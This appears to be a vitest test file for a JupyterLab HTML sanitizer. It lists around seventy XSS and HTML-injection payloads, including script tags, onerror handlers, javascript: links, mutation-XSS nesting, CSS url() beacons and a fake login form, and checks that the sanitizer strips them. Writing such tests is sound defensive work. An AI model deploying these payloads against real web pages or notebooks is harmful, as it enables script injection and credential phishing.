import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { describe, expect, it } from 'vitest';

import { SafeSanitizer } from './sanitizer';

const sanitizer = new SafeSanitizer(new Sanitizer());
/** What Lab would be if it let everything through. */
const open = new SafeSanitizer({ sanitize: dirty => dirty });

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

/** What is hostile in each, none of which may be left as a tag or an attribute. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://elsewhere/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<b onclick="alert(1)">b</b>',
  '<b onclick=alert(1)>b</b>',
  '<img src="http://elsewhere/x.png">',
  '<img src=//elsewhere/x.png>',
  '<img src="/user/x/logout">',
  '<img src="x" onerror="alert(1)">',
  '<img srcset="http://elsewhere/x.png 2x" src="' + PIXEL + '">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/png;base64,x" onload="alert(1)">',
  '<img src="attachment:http://elsewhere/x.png">',
  '<picture><source srcset="http://elsewhere/x.png"><img></picture>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href=" &#1;javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="/user/x/logout">a</a>',
  '<a href="../../logout" ping="http://elsewhere/">a</a>',
  '<a href="http://elsewhere/\\..\\" target="_self">a</a>',
  '<area href="javascript:alert(1)">',
  '<link rel="stylesheet" href="http://elsewhere/x.css">',
  '<link rel="preload" href="http://elsewhere/x" as="image">',
  '<meta http-equiv="refresh" content="0; url=http://elsewhere/">',
  '<base href="http://elsewhere/">',
  '<style>@import "http://elsewhere/x.css"; body { display: none }</style>',
  '<div style="background: url(http://elsewhere/x.png)">a</div>',
  '<div style="background-image: url(\'http://elsewhere/x\')">a</div>',
  '<div style="background-color: red; background-image: u\\rl(//elsewhere/x)">a</div>',
  '<div style="list-style: url(//elsewhere/x)">a</div>',
  '<div style="position: fixed; inset: 0; z-index: 9999">a</div>',
  '<div style="color: expression(alert(1))">a</div>',
  '<div style="color: image-set(\'http://elsewhere/x\')">a</div>',
  '<div style="margin: -1000px">a</div>',
  '<div class="jp-Dialog lm-mod-hidden">a</div>',
  '<div id="jp-main-content-panel" name="jupyterapp">a</div>',
  '<form action="http://elsewhere/"><input type="password"><button>Log in</button></form>',
  '<input type="image" src="http://elsewhere/x.png">',
  '<button formaction="javascript:alert(1)">a</button>',
  '<button data-commandlinker-command="application:close-all">a</button>',
  '<textarea autofocus onfocus="alert(1)">a</textarea>',
  '<select onchange="alert(1)"><option>a</option></select>',
  '<iframe src="http://elsewhere/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="http://elsewhere/x.swf"></object>',
  '<embed src="http://elsewhere/x.swf">',
  '<video src="http://elsewhere/x" poster="http://elsewhere/y" autoplay></video>',
  '<audio src="http://elsewhere/x" autoplay></audio>',
  '<track src="http://elsewhere/x">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><use href="http://elsewhere/x.svg#a"></use></svg>',
  '<svg><image href="http://elsewhere/x.png"/></svg>',
  '<svg><foreignObject><form><input></form></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">a</a></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<table background="http://elsewhere/x.png"><td background="http://elsewhere/x">a</td></table>',
  '<body background="http://elsewhere/x.png" onload="alert(1)">a</body>',
  '<p title="<img src=http://elsewhere/x>">a</p>',
  '<p title="&quot;><img src=http://elsewhere/x>">a</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x-widget onfoo=alert(1)>a</x-widget>',
  '<img/src="http://elsewhere/x.png"/onerror=alert(1)//',
  '<a\thref="javascript:alert(1)"\n>a</a>'
];

/** A tag that draws nothing but text and tables, in the one form that is accepted. */
const HARMLESS =
  /^<\/?(?:a|b|br|div|p|span|table|tbody|td|tr|th|img|pre|code|em|strong)((?: [a-z]+="[^"<>]*")*)>$/;
const ATTRIBUTES =
  /^(?: (?:title="[^"<>]*"|alt="[^"<>]*"|src="data:image\/png;base64,[^"<>]*"|href="https?:[^"<>\\]*"|target="_blank"|rel="noopener noreferrer"|style="(?:background-)?color: \w+"))*$/;

function tagsOf(html: string): readonly string[] {
  return [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag);
}

describe('SafeSanitizer', () => {
  it.each(HOSTILE)('leaves nothing that is hostile: %s', dirty => {
    for (const tag of tagsOf(sanitizer.sanitize(dirty))) {
      expect(tag).toMatch(HARMLESS);
      expect(HARMLESS.exec(tag)?.[1]).toMatch(ATTRIBUTES);
    }
  });

  it.each(HOSTILE)('does not need Lab for that: %s', dirty => {
    for (const tag of tagsOf(open.sanitize(dirty))) {
      expect(tag).toMatch(HARMLESS);
      expect(HARMLESS.exec(tag)?.[1]).toMatch(ATTRIBUTES);
    }
  });

  it.each(['script', 'form', 'input', 'button', 'iframe', 'svg', 'style'])(
    'has no tag %s',
    tag => {
      const html = sanitizer.sanitize(`<${tag}>a</${tag}><p>b</p>`);

      expect(html).not.toContain(`<${tag}`);
      expect(html).toContain('<p>b</p>');
    }
  );

  it('keeps tables, their spans and their colours', () => {
    const html =
      '<table class="dataframe"><tr><th colspan="2">a</th></tr>' +
      '<tr><td style="color: red; background-color: #ff0000">1 &lt; 2</td></tr></table>';

    expect(sanitizer.sanitize(html)).toBe(html);
  });

  it('keeps images that are in the output', () => {
    const html = `<img src="${PIXEL}" alt="a chart">`;

    expect(sanitizer.sanitize(html)).toBe(html);
  });

  it('says what an image elsewhere is', () => {
    const html =
      '<p><img src="http://elsewhere/x" alt="a &quot;chart&quot;"></p>';

    expect(sanitizer.sanitize(html)).toBe('<p>a &quot;chart&quot;</p>');
  });

  it('opens links elsewhere, without telling from where', () => {
    const html = sanitizer.sanitize(
      '<a href="https://example.org/a?b=1">a</a>'
    );

    expect(html).toBe(
      '<a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">a</a>'
    );
  });

  it('keeps the colours of a terminal', () => {
    const html = '<span class="ansi-red-fg">a</span>';

    expect(sanitizer.sanitize(html, { allowedTags: ['span'] })).toBe(html);
  });
});
